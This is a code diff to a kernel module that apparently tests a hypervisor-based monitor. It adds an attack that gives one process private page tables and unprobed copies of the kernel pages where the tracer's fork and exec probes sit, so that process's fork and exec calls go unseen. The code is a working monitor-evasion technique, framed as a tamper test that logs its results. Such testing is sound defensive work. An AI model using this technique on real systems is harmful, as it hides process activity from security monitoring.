@@ -18,6 +18,17 @@
  *     place of the original in the kernel's page tables (splitting the 2 MiB
  *     text mapping when needed), and leaves it so: hvmon must see the remap and
  *     re-place the probe on the copy.
+ *  3. silent_va, silent_vb (the tracer's kernel_clone and do_execveat_common
+ *     probes): a private kernel half for ONE process (docs/PROBES.md "A private
+ *     kernel half"). A process that writes to /proc/hvtamper_silent gets, in its
+ *     own page-table root only, a copy of the kernel-half entry: a copied PDPT ->
+ *     copied PD -> PTs whose entries for those two pages point to copies of them
+ *     (read through the text address: hvmon's data view, the original bytes
+ *     without its int3s); every other entry maps the kernel's own frames. The
+ *     kernel's shared tables are not written, so neither the byte checks nor the
+ *     write-protected page tables see anything; the process's fork and exec
+ *     entries run on the unprobed copies. Its children get the kernel's own
+ *     kernel half at fork (pgd_alloc copies it from swapper_pg_dir).
  * Every result is one "HVTAMPER: key=value" line in the kernel log.
  */
 #include <linux/module.h>
@@ -29,6 +40,9 @@
 #include <linux/notifier.h>
 #include <linux/umh.h>
 #include <linux/smp.h>
+#include <linux/proc_fs.h>
+#include <linux/sched.h>
+#include <linux/sched/mm.h>
 #include <asm/pgtable.h>
 #include <asm/tlbflush.h>
 
@@ -41,6 +55,11 @@ MODULE_PARM_DESC(remap_va, "kernel text address: map a copy of its page instead 
 static unsigned long int3b_va;
 module_param(int3b_va, ulong, 0444);
 MODULE_PARM_DESC(int3b_va, "kernel text address: the same int3, at the same time");
+static unsigned long silent_va, silent_vb;
+module_param(silent_va, ulong, 0444);
+MODULE_PARM_DESC(silent_va, "kernel text address: a private unprobed copy of its page for the process that writes /proc/hvtamper_silent");
+module_param(silent_vb, ulong, 0444);
+MODULE_PARM_DESC(silent_vb, "kernel text address: the same, a second page");
 static unsigned int hold_ms = 1500;
 module_param(hold_ms, uint, 0444);
 
@@ -187,12 +206,111 @@ static void attack_remap(void)
 		((unsigned long long)page_to_pfn(copy) << PAGE_SHIFT) + (remap_va & ~PAGE_MASK));
 }
 
+/* ---- 3. a private kernel half for one process ---------------------------- */
+
+#define TBL(e) ((u64 *)__va((e) & PTE_PFN_MASK))
+
+/* a zeroed page for a table or a text copy; kept for ever (the process's root
+ * may point at it until it exits) */
+static u64 *new_page(void)
+{
+	return (u64 *)get_zeroed_page(GFP_KERNEL);
+}
+
+/* the private table below entry @i of @tbl (a copy of the shared one, or, for
+ * a 2 MiB leaf, a PT of 512 4 KiB entries on the same frames); @mine lists the
+ * tables already private (a second page under the same table reuses it) */
+static u64 *private_below(u64 *tbl, unsigned int i, u64 **mine, unsigned int *nmine)
+{
+	u64 e = tbl[i], *t, *n;
+	unsigned int k;
+
+	if (!(e & _PAGE_PRESENT))
+		return NULL;
+	t = TBL(e);
+	for (k = 0; k < *nmine; k++)
+		if (mine[k] == t)
+			return t;
+	n = new_page();
+	if (!n)
+		return NULL;
+	if (e & _PAGE_PSE) {            /* 2 MiB leaf: split it, as split_large_page does */
+		pgprot_t prot = pgprot_large_2_4k(__pgprot(e & ~PTE_PFN_MASK));
+		unsigned long base = (e & PTE_PFN_MASK & PMD_MASK) >> PAGE_SHIFT;
+
+		for (k = 0; k < PTRS_PER_PTE; k++)
+			n[k] = pte_val(pfn_pte(base + k, prot));
+		e = _KERNPG_TABLE;          /* a table entry now: the leaves say RO/NX */
+	} else {
+		memcpy(n, t, PAGE_SIZE);
+	}
+	mine[(*nmine)++] = n;
+	tbl[i] = (e & ~PTE_PFN_MASK) | __pa(n);
+	return n;
+}
+
+/* @root's kernel-half entry for @vas -> private tables with copies of their pages */
+static int private_half(u64 *root, const unsigned long *vas, unsigned int nva, unsigned long *copy_pa)
+{
+	unsigned int i4 = pgd_index(vas[0]), k, nmine = 0;
+	u64 *mine[8], *pud, e4 = root[i4];
+
+	if (!(e4 & _PAGE_PRESENT) || pgtable_l5_enabled())
+		return -EINVAL;             /* (Bochs: 4-level paging) */
+	pud = new_page();
+	if (!pud)
+		return -ENOMEM;
+	memcpy(pud, TBL(e4), PAGE_SIZE);
+	mine[nmine++] = pud;
+	for (k = 0; k < nva; k++) {
+		unsigned long va = vas[k];
+		u64 *pd, *pt, *copy;
+
+		if (pgd_index(va) != i4)
+			return -EINVAL;
+		if (pud[pud_index(va)] & _PAGE_PSE)
+			return -EINVAL;     /* 1 GiB text mapping: not on Debian's kernels */
+		pd = private_below(pud, pud_index(va), mine, &nmine);
+		pt = pd ? private_below(pd, pmd_index(va), mine, &nmine) : NULL;
+		copy = pt ? new_page() : NULL;
+		if (!copy)
+			return -ENOMEM;
+		memcpy(copy, (void *)(va & PAGE_MASK), PAGE_SIZE);
+		pt[pte_index(va)] = (pt[pte_index(va)] & ~PTE_PFN_MASK & ~(u64)_PAGE_GLOBAL) | __pa(copy);
+		copy_pa[k] = __pa(copy) + (va & ~PAGE_MASK);
+	}
+	WRITE_ONCE(root[i4], (e4 & ~PTE_PFN_MASK) | __pa(pud));
+	return 0;
+}
+
+static ssize_t silent_write(struct file *f, const char __user *buf, size_t len, loff_t *off)
+{
+	unsigned long vas[2] = { silent_va, silent_vb }, cpa[2] = { 0, 0 };
+	struct mm_struct *mm = current->mm;
+	int rc;
+
+	if (!mm || !silent_va || !silent_vb)
+		return -EINVAL;
+	/* the kernel's root of this process (with KPTI the user root is the next page) */
+	mmap_write_lock(mm);
+	rc = private_half((u64 *)mm->pgd, vas, 2, cpa);
+	mmap_write_unlock(mm);
+	on_each_cpu(flush_all, NULL, 1);
+	pr_info("HVTAMPER: silent=%s pid=%d comm=%s copy_a=%#lx copy_b=%#lx rc=%d\n", rc ? "failed" : "done",
+		task_pid_nr(current), current->comm, cpa[0], cpa[1], rc);
+	return rc ? rc : len;
+}
+
+static const struct proc_ops silent_ops = { .proc_write = silent_write };
+
 static int __init hvtamper_init(void)
 {
 	if (int3_va)
 		attack_int3();
 	if (remap_va)
 		attack_remap();
+	if (silent_va && silent_vb && !proc_create("hvtamper_silent", 0200, NULL, &silent_ops))
+		pr_info("HVTAMPER: silent=failed proc\n");
 	return 0;
 }
 
